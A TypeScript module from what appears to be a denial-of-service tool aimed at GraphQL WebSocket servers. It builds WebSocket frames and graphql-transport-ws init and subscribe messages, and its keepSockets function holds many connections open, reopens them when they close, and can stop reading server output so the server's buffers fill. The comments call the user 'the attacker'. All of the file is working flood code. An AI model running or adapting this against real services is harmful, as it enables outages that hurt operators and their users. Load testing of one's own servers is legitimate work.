import type { Socket } from 'node:net';
import type { Attack } from './attack.ts';
import { keepOpen } from './attack.ts';
import { bearer, request } from './http.ts';

export const opcodes = { continuation: 0, text: 1, ping: 9, pong: 10 } as const;

/** Returns a WebSocket frame with a zero mask (RFC 6455, 5.2), so that equal frames have equal bytes. */
export const frame = (payload: string | Buffer, opcode: number = opcodes.text, isFinal = true): Buffer => {
  const data = Buffer.from(payload);
  const extended = data.byteLength > 65_535 ? 8 : data.byteLength > 125 ? 2 : 0;
  const head = Buffer.alloc(2 + extended + 4);
  head[0] = (isFinal ? 0x80 : 0) | opcode;
  head[1] = 0x80 | (extended === 8 ? 127 : extended === 2 ? 126 : data.byteLength);
  if (extended === 2) head.writeUInt16BE(data.byteLength, 2);
  if (extended === 8) head.writeBigUInt64BE(BigInt(data.byteLength), 2);
  return Buffer.concat([head, data]);
};

export const message = (value: object): Buffer => frame(JSON.stringify(value));

export const init = (token?: string): Buffer =>
  message({ type: 'connection_init', ...(token !== undefined && { payload: { token } }) });

export const subscribe = (id: string, query: string, variables: object = {}): Buffer =>
  message({ type: 'subscribe', id, payload: { query, variables } });

const upgrade = (token?: string): Buffer =>
  request('GET', '/graphql', {
    Connection: 'Upgrade',
    Upgrade: 'websocket',
    'Sec-WebSocket-Version': '13',
    'Sec-WebSocket-Key': Buffer.alloc(16).toString('base64'),
    'Sec-WebSocket-Protocol': 'graphql-transport-ws',
    ...bearer(token),
  });

export interface SocketFlood {
  readonly count: number;
  /** Null: no `connection_init`; undefined: an anonymous one. */
  readonly tokenOf?: (index: number) => string | null | undefined;
  /** Whether the attacker reads what the server sends. */
  readonly reads: boolean;
  readonly addressOf?: (index: number) => number;
  /** Called when the server has accepted the upgrade. */
  readonly opened: (socket: Socket, index: number) => void;
}

/** Keeps WebSockets open; opens each again when it closes. */
export const keepSockets = (attack: Attack, flood: SocketFlood): Promise<void> =>
  keepOpen(
    attack,
    flood.count,
    (socket, index) => {
      const token = flood.tokenOf?.(index);
      let isOpen = false;
      socket.on('data', (chunk: Buffer) => {
        if (isOpen) {
          attack.count('bytes read', chunk.byteLength);
          return;
        }
        const status = chunk.toString('latin1', 9, 12);
        attack.count(status);
        if (status !== '101') return;
        isOpen = true;
        if (!flood.reads) socket.pause();
        if (token !== null) socket.write(init(token));
        flood.opened(socket, index);
      });
      socket.write(upgrade());
    },
    flood.addressOf,
  );
